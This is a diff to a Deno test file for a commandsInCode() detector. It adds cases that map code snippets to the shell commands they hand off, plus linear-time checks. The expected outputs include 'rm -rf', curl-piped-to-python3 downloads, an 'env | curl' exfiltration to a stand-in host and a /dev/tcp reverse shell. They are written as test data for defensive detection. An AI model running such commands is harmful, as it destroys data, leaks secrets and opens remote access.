@@ -21,6 +21,18 @@ Deno.test("commandsInCode() finds what code hands to a shell, and no other text"
     ["spawn('sh', ['-c', 'id'])", ["sh -c id"]],
     ["cp.spawnSync('rm', [ '-rf', 'src' ], {cwd})", ["rm -rf src"]],
     ["exec('ls', {cwd: 'x'})", ["ls"]],
+    ["new Deno.Command('rm', { args: ['-rf', 'a'] })", ["rm -rf a"]],
+    ['exec.Command("sh", "-c", "id").Run()', ["sh -c id"]],
+    ["system 'rm -rf src'", ["rm -rf src"]],
+    ["import shutil; shutil.rmtree('/home/a')", ["rm -rf '/home/a'"]],
+    ["fs.rmSync(`a`, { recursive: true })", ["rm -rf 'a'"]],
+    ["exec(urllib.request.urlopen('http://x/y').read())", ["curl 'http://x/y' | python3"]],
+    ["fetch('https://x/y').then((r) => r.text()).then(eval)", ["curl 'https://x/y' | python3"]],
+    ["requests.post(u, json=dict(os.environ))", ["env | curl -d @- https://elsewhere.invalid/"]],
+    ["requests.post(u, json={'a': os.environ['A']})", []],
+    ["s=socket.socket();os.dup2(s.fileno(),0)", ["bash -i >& /dev/tcp/elsewhere.invalid/1 0>&1"]],
+    ["data = requests.get('https://x/y').json()", []],
+    ["the system 'of record'", ["of record"]],
     ["x = 1\n!rm -rf src\n%sx id\nif a != b: pass", ["rm -rf src", "id"]],
     ['do shell script "rm -rf \\"a\\""', ['rm -rf "a"']],
     ["shell_exec(\"id\"); passthru('ls')", ["id", "ls"]],
@@ -35,7 +47,22 @@ Deno.test("commandsInCode() finds what code hands to a shell, and no other text"
 });
 
 Deno.test("commandsInCode() takes time linear in the code", () => {
-  for (const piece of ["system('", "system(['a',", 'run("\\', "system('a')", "run  ", "execexec", "run(f"]) {
+  for (
+    const piece of [
+      "system('",
+      "system(['a',",
+      'run("\\',
+      "system('a')",
+      "run  ",
+      "execexec",
+      "run(f",
+      "exec(fetch(",
+      "socket ",
+      "system '",
+      "rmtree('",
+      "!a\\n",
+    ]
+  ) {
     assertLinear(piece, 4_000, (length) => void commandsInCode(piece.repeat(Math.ceil(length / piece.length))));
   }
 });
